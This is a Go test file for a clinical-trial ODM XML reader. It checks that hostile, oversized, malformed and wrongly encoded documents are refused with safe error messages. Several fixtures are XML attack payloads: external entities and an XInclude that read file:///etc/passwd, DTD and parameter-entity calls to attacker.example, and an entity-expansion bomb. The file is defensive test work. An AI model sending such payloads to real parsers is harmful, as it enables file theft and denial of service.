package odm

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"
	"time"
	"unicode/utf16"
)

// within puts item data into a whole document.
func within(items string) string {
	return `<ODM xmlns="http://www.cdisc.org/ns/odm/v1.3" xmlns:OpenClinica="http://www.openclinica.org/ns/odm_ext_v130/v3.1">` +
		`<ClinicalData StudyOID="S"><SubjectData SubjectKey="SS"><StudyEventData StudyEventOID="SE"><FormData FormOID="F">` +
		`<ItemGroupData ItemGroupOID="IG">` + items +
		`</ItemGroupData></FormData></StudyEventData></SubjectData></ClinicalData></ODM>`
}

func inUTF16(doc string, order binary.AppendByteOrder) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(doc)) {
		b = order.AppendUint16(b, u)
	}
	return string(b)
}

// Each is a document that the standard library's decoder takes, or of which it takes too much, or which is simply wrong.
func TestHostileDocuments(t *testing.T) {
	const item = `<ItemData ItemOID="I" Value="1"/>`
	long := strings.Repeat("x", MaxToken)
	tests := []struct {
		name, doc string
		want      Kind
	}{
		{"nothing", "", Malformed},
		{"white space", " \n", Malformed},
		{"only a declaration", `<?xml version="1.0"?>`, Malformed},
		{"no XML", "SubjectKey,ItemOID\n", Malformed},
		{"a ZIP", "PK\x03\x04\x14\x00\x00\x00", Malformed},
		{"text after the root", `<ODM/>x`, Malformed},
		{"a second root", `<ODM/><ODM/>`, Malformed},
		{"CDATA outside the root", `<ODM/><![CDATA[x]]>`, Malformed},
		{"text before the root", `x<ODM/>`, Malformed},
		{"a declaration that is not first", ` <?xml version="1.0"?><ODM/>`, Malformed},
		{"a second declaration", `<?xml version="1.0"?><?xml version="1.0"?><ODM/>`, Malformed},

		{"DOCTYPE", `<!DOCTYPE ODM><ODM/>`, Unsafe},
		{"external DOCTYPE", `<!DOCTYPE ODM SYSTEM "http://attacker.example/x.dtd"><ODM/>`, Unsafe},
		{"external entity", `<!DOCTYPE ODM [<!ENTITY x SYSTEM "file:///etc/passwd">]><ODM>&x;</ODM>`, Unsafe},
		{"parameter entity", `<!DOCTYPE ODM [<!ENTITY % x SYSTEM "http://attacker.example/">%x;]><ODM/>`, Unsafe},
		{"entity bomb", `<!DOCTYPE ODM [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><ODM>&b;</ODM>`, Unsafe},
		{"DOCTYPE in the document", within(`<!DOCTYPE x>`), Unsafe},
		{"DOCTYPE in lower case", `<!doctype ODM><ODM/>`, Unsafe},
		{"an inclusion", within(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`), Unsafe},
		{"an inclusion where nothing is read", `<ODM xmlns:xi="http://www.w3.org/2001/XInclude"><a><xi:fallback/></a></ODM>`, Unsafe},
		{"an entity without a declaration", within(`<ItemData ItemOID="&x;"/>`), Unsafe},
		{"an entity of HTML", within(`<ItemData ItemOID="I" Value="a&nbsp;b"/>`), Unsafe},

		{"an ampersand", within(`<ItemData ItemOID="I" Value="a & b"/>`), Malformed},
		{"an endless reference", within(`<ItemData ItemOID="I" Value="&` + strings.Repeat("a", 1000) + `;"/>`), Malformed},
		{"a reference to null", within(`<ItemData ItemOID="I" Value="&#0;"/>`), Malformed},
		{"a reference to half a character", within(`<ItemData ItemOID="I" Value="&#xD800;"/>`), Malformed},
		{"a reference to no character", within(`<ItemData ItemOID="I" Value="&#x110000;"/>`), Malformed},
		{"a reference without digits", within(`<ItemData ItemOID="I" Value="&#;"/>`), Malformed},
		{"a reference with a sign", within(`<ItemData ItemOID="I" Value="&#+65;"/>`), Malformed},
		{"a reference with an underscore", within(`<ItemData ItemOID="I" Value="&#6_5;"/>`), Malformed},

		{"31 elements in the root", "<ODM>" + strings.Repeat("<a>", 32) + strings.Repeat("</a>", 32) + "</ODM>", TooLarge},
		{"a million deep", "<ODM>" + strings.Repeat("<a>", 1e6), TooLarge},
		{"a long value", within(`<ItemData ItemOID="I" Value="` + long + `"/>`), TooLarge},
		{"a long text", within(`<ItemDataString ItemOID="I">` + long + `x</ItemDataString>`), TooLarge},
		{"a long text in pieces", within(`<ItemDataString ItemOID="I">` + strings.Repeat("<![CDATA["+long[:1<<10]+"]]>", 1025) + `</ItemDataString>`), TooLarge},
		{"a long name", "<" + long + "/>", TooLarge},
		{"a long comment", "<ODM><!--" + long + "--></ODM>", TooLarge},
		{"a long instruction", "<ODM><?x " + long + "?></ODM>", TooLarge},
		{"a long end tag", "<ODM></ODM" + strings.Repeat(" ", MaxToken) + ">", TooLarge},
		{"a long CDATA section", within(`<ItemDataString ItemOID="I"><![CDATA[` + long + `]]></ItemDataString>`), TooLarge},
		{"many attributes", "<ODM " + manyAttributes(129) + "/>", TooLarge},
		{"a million attributes", "<ODM " + manyAttributes(60_000) + "/>", TooLarge},
		{"many namespaces", "<ODM " + strings.ReplaceAll(manyAttributes(65), " a", " xmlns:a") + "/>", TooLarge},
		{"a large group", within(strings.Repeat(item, 100_000)), TooLarge},
		{"a group of large values", within(strings.Repeat(`<ItemData ItemOID="I" Value="`+long[:1<<19]+`"/>`, 17)), TooLarge},
		{"a large audit trail", within(`<ItemData ItemOID="I"><AuditLogs>` + strings.Repeat("<AuditLog/>", 100_000) + `</AuditLogs></ItemData>`), TooLarge},
		{"a large study", "<ODM><Study><MetaDataVersion>" + strings.Repeat("<ItemDef/>", 100_000) + "</MetaDataVersion></Study></ODM>", TooLarge},
		{"a large unknown block", "<ODM><Study><MetaDataVersion><StudyDetails>" + strings.Repeat("<a/>", 400_000) + "</StudyDetails></MetaDataVersion></Study></ODM>", TooLarge},

		{"an attribute given twice", within(`<ItemData ItemOID="I" Value="1" Value="2"/>`), Malformed},
		{"an attribute given twice by two prefixes", `<ODM xmlns:a="urn:x" xmlns:b="urn:x" a:v="1" b:v="2"/>`, Malformed},
		{"a namespace declared twice", `<ODM xmlns:a="urn:x" xmlns:a="urn:y"/>`, Malformed},
		{"a namespace taken back", `<ODM xmlns:a=""/>`, Malformed},
		{"the prefix xmlns", `<ODM xmlns:xmlns="urn:x"/>`, Malformed},
		{"the namespace of xmlns", `<ODM xmlns:a="http://www.w3.org/2000/xmlns/"/>`, Malformed},
		{"the prefix xml for something else", `<ODM xmlns:xml="urn:x"/>`, Malformed},
		{"a prefix that nothing declares", within(`<ItemData ItemOID="I" foo:bar="1"/>`), NotODM},
		{"an element with a prefix that nothing declares", within(`<foo:bar/>`), NotODM},
		{"a prefix out of scope", within(`<a xmlns:p="urn:x"/><p:b/>`), NotODM},
		{"a root of another namespace", `<ODM xmlns="http://www.cdisc.org/ns/odm/v2.0"/>`, NotODM},
		{"a root of another name", `<html xmlns="http://www.w3.org/1999/xhtml"/>`, NotODM},
		{"a root in lower case", `<odm/>`, NotODM},
		{"a root of a foreign prefix", `<x:ODM xmlns:x="urn:x"/>`, NotODM},

		{"an end without a start", `<ODM></ODM></ODM>`, Malformed},
		{"elements that cross", `<ODM><a><b></a></b></ODM>`, Malformed},
		{"another prefix at the end", `<a:ODM xmlns:a="http://www.cdisc.org/ns/odm/v1.3" xmlns:b="http://www.cdisc.org/ns/odm/v1.3"></b:ODM>`, Malformed},
		{"a tag in a tag", `<ODM <a/>`, Malformed},
		{"no name", `< ODM/>`, Malformed},
		{"an empty tag", `<>`, Malformed},
		{"a name with a digit first", `<ODM><1/></ODM>`, Malformed},
		{"a name with two colons", `<ODM><a:b:c/></ODM>`, Malformed},
		{"a name with nothing before the colon", `<ODM><:a/></ODM>`, Malformed},
		{"an attribute without a value", `<ODM a/>`, Malformed},
		{"an attribute without quotes", `<ODM a=1/>`, Malformed},
		{"an attribute without a name", `<ODM ="1"/>`, Malformed},
		{"attributes without white space", `<ODM a="1"b="2"/>`, Malformed},
		{"a slash in a tag", `<ODM / a="1"/>`, Malformed},
		{"a < in a value", `<ODM a="<"/>`, Malformed},
		{"]]> in text", `<ODM>]]></ODM>`, Malformed},
		{"two hyphens in a comment", `<ODM><!-- -- --></ODM>`, Malformed},
		{"an end tag with an attribute", `<ODM></ODM a="1">`, Malformed},
		{"a null in a value", within("<ItemData ItemOID=\"I\" Value=\"a\x00b\"/>"), Malformed},
		{"a control character in text", "<ODM>\x1b</ODM>", Malformed},
		{"a control character in a comment", "<ODM><!--\x01--></ODM>", Malformed},

		{"bad UTF-8 in a value", within("<ItemData ItemOID=\"I\" Value=\"M\xfcller\"/>"), Encoding},
		{"bad UTF-8 in text", "<ODM>\xff</ODM>", Encoding},
		{"bad UTF-8 in a comment", "<ODM><!--\xc3--></ODM>", Encoding},
		{"half a character, encoded", "<ODM>\xed\xa0\x80</ODM>", Encoding},
		{"a character in too many bytes", "<ODM>\xc0\xbc</ODM>", Encoding},
		{"no character", "<ODM>\uffff</ODM>", Encoding},
		{"UTF-16, little end first", inUTF16("\ufeff<?xml version=\"1.0\" encoding=\"UTF-16\"?><ODM/>", binary.LittleEndian), Encoding},
		{"UTF-16, big end first", inUTF16("\ufeff<ODM/>", binary.BigEndian), Encoding},
		{"UTF-16 without a mark", inUTF16("<ODM/>", binary.LittleEndian), Encoding},
		{"UTF-32", "<\x00\x00\x00O\x00\x00\x00", Encoding},
		{"an encoding that is not read", `<?xml version="1.0" encoding="EBCDIC-CP-BE"?><ODM/>`, Encoding},
		{"UTF-16 that is only declared", `<?xml version="1.0" encoding="UTF-16"?><ODM/>`, Encoding},
		{"an undefined byte of windows-1252", "<?xml version=\"1.0\" encoding=\"windows-1252\"?><ODM>\x81</ODM>", Encoding},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			_, err := readAll(strings.NewReader(tt.doc))
			var fault *Fault
			if !errors.As(err, &fault) {
				t.Fatalf("got %v, want a fault", err)
			}
			if fault.Kind != tt.want {
				t.Errorf("got kind %d, %v; want %d", fault.Kind, fault, tt.want)
			}
			// They are refused within milliseconds; a busy machine may be a hundred times as slow.
			if took := time.Since(start); took > 10*time.Second {
				t.Errorf("it took %v", took)
			}
			text := strings.ToLower(fault.Error())
			for _, word := range []string{"error", "exception", "sql", "stack trace", "passwd", "attacker", "müller"} {
				if strings.Contains(text, word) {
					t.Errorf("%q tells %q", text, word)
				}
			}
			if fault.Line < 0 || fault.Byte < 0 || fault.Byte > int64(len(tt.doc)) {
				t.Errorf("line %d, byte %d of %d", fault.Line, fault.Byte, len(tt.doc))
			}
		})
	}
}

func manyAttributes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, ` a%d="u"`, i)
	}
	return b.String()
}

// Wherever a document is cut off, that is said, and so is where.
func TestTruncatedDocuments(t *testing.T) {
	doc := `<?xml version="1.0" encoding="UTF-8"?>` + "\n<!-- a -->" +
		within(`<ItemData ItemOID="I" Value="a&amp;b"/><ItemDataString ItemOID="J">x<![CDATA[y]]></ItemDataString>`)
	for n := range len(doc) {
		_, err := readAll(strings.NewReader(doc[:n]))
		var fault *Fault
		if !errors.As(err, &fault) || fault.Kind != Malformed {
			t.Fatalf("cut at %d: %v", n, err)
		}
	}
	mustRead(t, doc)
}

// An error of the source is not the document's.
func TestSourceThatBreaks(t *testing.T) {
	broken := errors.New("the connection is gone")
	doc := within(strings.Repeat(`<ItemData ItemOID="I" Value="1"/>`, 10_000))
	for _, n := range []int{0, 100, 100_000} {
		r := NewReader(io.MultiReader(strings.NewReader(doc[:n]), iotest.ErrReader(broken)))
		var err error
		for err == nil {
			_, err = r.Next()
		}
		if !errors.Is(err, broken) {
			t.Errorf("broken after %d bytes: %v", n, err)
		}
		if _, again := r.Next(); !errors.Is(again, broken) {
			t.Errorf("after that: %v", again)
		}
	}
}

// endless repeats a piece of a document for left bytes, and looks now and then how much memory is in use.
type endless struct {
	piece string
	at    int
	left  int

	reads int
	most  uint64
}

func (e *endless) Read(p []byte) (n int, err error) {
	if e.left == 0 {
		return 0, io.EOF
	}
	if e.reads++; e.reads%8 == 0 {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		e.most = max(e.most, m.HeapAlloc)
	}
	for n < len(p) && e.left > 0 {
		c := copy(p[n:min(len(p), n+e.left)], e.piece[e.at:])
		e.at = (e.at + c) % len(e.piece)
		e.left -= c
		n += c
	}
	return n, nil
}

// What a document is made of does not show in the memory that reading it takes, however long it is.
func TestMemoryIsBounded(t *testing.T) {
	const size = 4 << 20
	for name, piece := range map[string]string{
		"subjects":          `<SubjectData SubjectKey="S"><StudyEventData StudyEventOID="E"><FormData FormOID="F"><ItemGroupData ItemGroupOID="G"><ItemData ItemOID="I" Value="7"/></ItemGroupData></FormData></StudyEventData></SubjectData>`,
		"what is empty":     `<SubjectData/>`,
		"what is not known": `<Unknown a="1"><b>c</b></Unknown>`,
		"comments":          `<!-- nothing to see -->`,
		"text":              `some text<a/>`,
		"references":        `&#65;<a/>`,
	} {
		t.Run(name, func(t *testing.T) {
			middle := &endless{piece: piece, left: size - size%len(piece)}
			start := time.Now()
			err := read(io.MultiReader(strings.NewReader(`<ODM><ClinicalData>`), middle, strings.NewReader(`</ClinicalData></ODM>`)))
			if err != nil {
				t.Fatal(err)
			}
			if middle.most == 0 || middle.most > 2<<20 {
				t.Errorf("%d KB were in use", middle.most>>10)
			}
			t.Logf("%d MB in %v, %d KB in use", size>>20, time.Since(start).Round(time.Millisecond), middle.most>>10)
		})
	}
}
